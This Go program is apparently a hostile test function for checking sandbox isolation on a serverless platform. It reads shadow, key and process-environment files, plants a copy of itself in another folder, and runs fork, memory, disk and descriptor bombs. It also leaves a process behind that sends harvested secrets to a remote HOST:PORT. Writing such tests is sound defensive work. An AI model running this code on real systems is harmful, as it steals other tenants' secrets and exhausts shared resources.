// Command attacker is a hostile user function for the security tests: it
// reports who it runs as and everything it can read that it should not
// (the kernel command line, PID 1's environment and files, the worker's
// key, block devices, other processes), and can leave a process behind
// that keeps looking for the next job's secrets and phones home.
//
// Request (stdin, JSON): {"linger": "HOST:PORT"} to leave a process behind
// that reports to HOST:PORT ("stay_ms": N to wait N ms before exiting, so
// the leftover can report during the job); "read": [paths] to try more
// files; "write": [paths] to try writing more; "plant": DIR to plant a
// function (config.json and a copy of itself) in DIR; the bombs
// "forkbomb": N processes, "membomb": N bytes, "filltmp": N bytes of
// /tmp, "openfiles": N descriptors (the run exits 3 when a limit stopped
// one); {} to only report.
package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

type report struct {
	UID, GID, PID int
	Hostname      string
	Status        map[string]string // CapEff, CapBnd, CapPrm, NoNewPrivs, Seccomp from /proc/self/status
	Environ       []string
	Reads         map[string]string // path -> content (cut) or "ERR: ..."
	BlockDevices  []string          // block device nodes found under /dev
	Processes     []string          // "pid:comm" of every process in /proc
	Wrote         map[string]string // path -> "ok" or error: places a leftover could hide
	Lingering     string            `json:",omitempty"`
	Bomb          *bombReport       `json:",omitempty"`
}

// bombReport says how far each bomb got and what stopped it.
type bombReport struct {
	Forked       int
	ForkErr      string
	Allocated    int64
	AllocErr     string
	TmpWritten   int64
	TmpErr       string
	OpenFiles    int
	OpenFilesErr string
}

// targets are files an attacker reads for keys or the worker's secrets.
var targets = []string{
	"/proc/cmdline", "/proc/1/cmdline", "/proc/1/environ", "/proc/1/maps",
	"/proc/1/root/run/mf/key", "/proc/1/root/proc/cmdline", "/run/mf/key", "/mf/key",
	"/proc/keys", "/proc/partitions", "/sys/firmware/qemu_fw_cfg/by_name/opt/mf/key/raw",
	"/init", "/dev/vda", "/dev/sda", "/dev/mmcblk0", "/dev/mmcblk0p1", "/dev/mem", "/dev/kmsg",
	"/sys/block", "/etc/shadow",
}

func read(p string) string {
	fi, err := os.Stat(p)
	if err != nil {
		return "ERR: " + err.Error()
	}
	if fi.IsDir() {
		ents, err := os.ReadDir(p)
		if err != nil {
			return "ERR: " + err.Error()
		}
		var names []string
		for _, e := range ents {
			names = append(names, e.Name())
		}
		return "DIR: " + strings.Join(names, " ")
	}
	f, err := os.Open(p)
	if err != nil {
		return "ERR: " + err.Error()
	}
	defer f.Close()
	b := make([]byte, 4096)
	n, err := f.Read(b)
	if n == 0 && err != nil && err != io.EOF {
		return "ERR: " + err.Error()
	}
	return string(b[:n])
}

func main() {
	if len(os.Args) == 3 && os.Args[1] == "linger" {
		linger(os.Args[2])
		return
	}
	var req struct {
		Linger string
		Read   []string // more paths to try
		StayMS int      `json:"stay_ms"` // stay this long after starting the leftover
		Write  []string // more paths to try writing
		Plant  string
		// Bombs.
		ForkBomb  int   `json:"forkbomb"`
		MemBomb   int64 `json:"membomb"`
		FillTmp   int64 `json:"filltmp"`
		OpenFiles int   `json:"openfiles"`
	}
	json.NewDecoder(os.Stdin).Decode(&req)
	host, _ := os.Hostname()
	r := report{UID: os.Getuid(), GID: os.Getgid(), PID: os.Getpid(), Hostname: host, Environ: os.Environ(),
		Status: map[string]string{}, Reads: map[string]string{}, Wrote: map[string]string{}}
	for _, line := range strings.Split(read("/proc/self/status"), "\n") {
		k, v, _ := strings.Cut(line, ":")
		switch k {
		case "CapEff", "CapBnd", "CapPrm", "NoNewPrivs", "Seccomp":
			r.Status[k] = strings.TrimSpace(v)
		}
	}
	for _, p := range append(targets, req.Read...) {
		r.Reads[p] = read(p)
	}
	filepath.WalkDir("/dev", func(p string, d os.DirEntry, err error) error {
		if err == nil && d.Type()&os.ModeDevice != 0 && d.Type()&os.ModeCharDevice == 0 {
			r.BlockDevices = append(r.BlockDevices, p)
		}
		return nil
	})
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		if e.Name()[0] >= '0' && e.Name()[0] <= '9' {
			r.Processes = append(r.Processes, e.Name()+":"+strings.TrimSpace(read("/proc/"+e.Name()+"/comm")))
		}
	}
	if req.Plant != "" {
		r.Wrote[req.Plant] = plant(req.Plant)
	}
	for _, p := range append([]string{"/tmp/.leftover", "/functions/.leftover", "/.leftover", "/run/.leftover"}, req.Write...) {
		if err := os.WriteFile(p, []byte("x"), 0o644); err != nil {
			r.Wrote[p] = err.Error()
		} else {
			r.Wrote[p] = "ok"
		}
	}
	if req.Linger != "" {
		cmd := exec.Command("/proc/self/exe", "linger", req.Linger)
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		if err := cmd.Start(); err != nil {
			r.Lingering = "ERR: " + err.Error()
		} else {
			r.Lingering = fmt.Sprint(cmd.Process.Pid)
		}
	}
	stopped := false
	if req.ForkBomb > 0 || req.MemBomb > 0 || req.FillTmp > 0 || req.OpenFiles > 0 {
		r.Bomb = &bombReport{}
		stopped = bombs(r.Bomb, req.ForkBomb, req.MemBomb, req.FillTmp, req.OpenFiles)
	}
	json.NewEncoder(os.Stdout).Encode(r)
	time.Sleep(time.Duration(req.StayMS) * time.Millisecond)
	if stopped {
		os.Exit(3)
	}
}

// plant puts a function in dir that runs this program (with PLANTED=1 in
// its environment), as a hostile tenant would in another's folder.
func plant(dir string) string {
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err.Error()
	}
	if err := os.MkdirAll(filepath.Join(dir, "rootfs"), 0o755); err != nil {
		return err.Error()
	}
	if err := os.WriteFile(filepath.Join(dir, "rootfs", "attacker"), self, 0o755); err != nil {
		return err.Error()
	}
	cfg := `{"entrypoint": ["/attacker"], "env": ["PLANTED=1"]}`
	if err := os.WriteFile(filepath.Join(dir, "config.json"), []byte(cfg), 0o644); err != nil {
		return err.Error()
	}
	return "ok"
}

// bombs runs each bomb asked for until it reaches its goal or a limit
// stops it; it reports whether a limit stopped any.
func bombs(b *bombReport, procs int, mem, tmp int64, files int) bool {
	// Children that only wait to be killed: forked raw, without exec, so
	// each costs the kernel a task and page tables (a Go child could do
	// nothing but raw system calls anyway).
	for b.Forked < procs {
		pid, _, errno := syscall.RawSyscall(syscall.SYS_CLONE, uintptr(syscall.SIGCHLD), 0, 0)
		if errno != 0 {
			b.ForkErr = errno.Error()
			break
		}
		if pid == 0 {
			for {
				syscall.RawSyscall(syscall.SYS_PAUSE, 0, 0, 0)
			}
		}
		b.Forked++
	}
	const chunk = 16 << 20
	var maps [][]byte
	for b.Allocated < mem {
		m, err := syscall.Mmap(-1, 0, chunk, syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_PRIVATE|syscall.MAP_ANON)
		if err != nil {
			b.AllocErr = err.Error()
			break
		}
		for i := 0; i < len(m); i += 4096 {
			m[i] = 1 // touch every page: memory, not only address space
		}
		maps = append(maps, m)
		b.Allocated += chunk
	}
	if tmp > 0 {
		b.TmpWritten, b.TmpErr = fill("/tmp/fill", tmp)
	}
	var fds []*os.File
	for len(fds) < files {
		f, err := os.Open("/dev/null")
		if err != nil {
			b.OpenFilesErr = err.Error()
			break
		}
		fds = append(fds, f)
	}
	b.OpenFiles = len(fds)
	return b.ForkErr != "" || b.AllocErr != "" || b.TmpErr != "" || b.OpenFilesErr != ""
}

// fill writes up to n bytes to p and reports how many it could.
func fill(p string, n int64) (int64, string) {
	f, err := os.Create(p)
	if err != nil {
		return 0, err.Error()
	}
	defer f.Close()
	buf := make([]byte, 1<<20)
	var done int64
	for done < n {
		k, err := f.Write(buf)
		done += int64(k)
		if err != nil {
			return done, err.Error()
		}
	}
	return done, ""
}

// linger outlives its job for up to 60 s, reporting what it sees: the
// secrets directory and every process's environment, i.e. the next job's.
func linger(addr string) {
	deadline := time.Now().Add(60 * time.Second)
	for time.Now().Before(deadline) {
		var seen []string
		if ents, err := os.ReadDir("/var/openfaas/secrets"); err == nil {
			for _, e := range ents {
				seen = append(seen, e.Name()+"="+read("/var/openfaas/secrets/"+e.Name()))
			}
		}
		procs, _ := filepath.Glob("/proc/[0-9]*/environ")
		for _, p := range procs {
			if s := read(p); !strings.HasPrefix(s, "ERR") {
				seen = append(seen, p+"="+strings.ReplaceAll(s, "\x00", " "))
			}
		}
		if c, err := net.DialTimeout("tcp", addr, time.Second); err == nil {
			fmt.Fprintf(c, "alive pid=%d %s\n", os.Getpid(), strings.Join(seen, " | "))
			c.Close()
		}
		time.Sleep(100 * time.Millisecond)
	}
}
